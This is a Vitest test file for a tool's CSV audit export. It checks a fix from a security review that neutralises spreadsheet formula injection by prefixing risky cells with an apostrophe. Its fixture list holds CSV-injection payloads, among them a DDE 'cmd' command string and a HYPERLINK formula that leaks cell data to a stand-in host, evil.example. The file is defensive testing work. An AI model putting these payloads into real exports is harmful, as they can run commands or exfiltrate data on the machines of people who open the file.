import { mkdtempSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import * as E from 'fp-ts/lib/Either.js'
import { describe, expect, it } from 'vitest'
import { auditFile } from '../../src/node/audit-file'
import { auditHead } from '../../src/node/audit-format'
import { parseCsv } from '../_csv'

/**
 * D1 (security review): `audit --format csv` wrote id, community and department cells verbatim,
 * so `=HYPERLINK(…)`, `@SUM(…)` or `=cmd|' /C calc'!A0` became live formulas in Excel or WPS.
 * Every cell starting with = + - @ (or a tab or CR, or their full-width forms) is now prefixed
 * with an apostrophe and quoted (OWASP's advice); the file starts with a UTF-8 byte-order mark.
 */


const PAYLOADS = ['=1+1', '+1+1', '-1+1', '@SUM(1,1)', '\t=1+1', '\r=1+1', `=cmd|' /C calc'!A0`, '=HYPERLINK("http://evil.example/?leak="&A1,"详情")', '＝1+1', '＠SUM(1)']
const meeting = (i: number, p: string, date: string): string =>
  JSON.stringify({ id: p, kind: 'meeting', date, requester: { level: 'district', department: p }, community: { id: `${p}#${i}` }, meeting: {} })

const dir = mkdtempSync(join(tmpdir(), 'zhunru-d1-'))
const file = join(dir, 'events.ndjson')
writeFileSync(file, PAYLOADS.flatMap((p, i) => ['2026-01-10', '2026-02-10', '2026-03-10'].map((d) => meeting(i, p, d))).join('\n'))

const csvOf = async (threads: number): Promise<string> => {
  let out = ''
  const r = await auditFile(file, { pack: 'cn-shandong', format: 'csv', lang: 'en', threads, write: (t) => void (out += t) })()
  if (E.isLeft(r)) throw new Error(JSON.stringify(r.left))
  return out
}

describe('D1: CSV cells cannot be formulas', () => {
  it('starts with a UTF-8 byte-order mark, then the header', () => {
    expect(auditHead('csv', 'en').startsWith('\uFEFFtype,line,id,community')).toBe(true)
  })

  it('neutralises every cell that starts with = + - @, a tab or a CR', async () => {
    const out = await csvOf(1)
    expect(out.startsWith('\uFEFF')).toBe(true)
    const rows = parseCsv(out.slice(1))
    const head = rows[0] as string[]
    const violations = rows.slice(1).filter((r) => r[0] === 'violation')
    expect(violations).toHaveLength(PAYLOADS.length)
    for (const r of violations) {
      for (const name of ['id', 'community', 'department']) {
        const cell = r[head.indexOf(name)] as string
        expect(cell.startsWith("'"), `${name}: ${cell}`).toBe(true)
      }
    }
    // no cell of any row, read as a spreadsheet reads it, starts a formula
    for (const r of rows) for (const cell of r) expect(/^[=+\-@\t\r＝＋－＠]/.test(cell), cell).toBe(false)
  })

  it('gives the same bytes on 1 and 2 threads', async () => {
    expect(await csvOf(2)).toBe(await csvOf(1))
  })
})
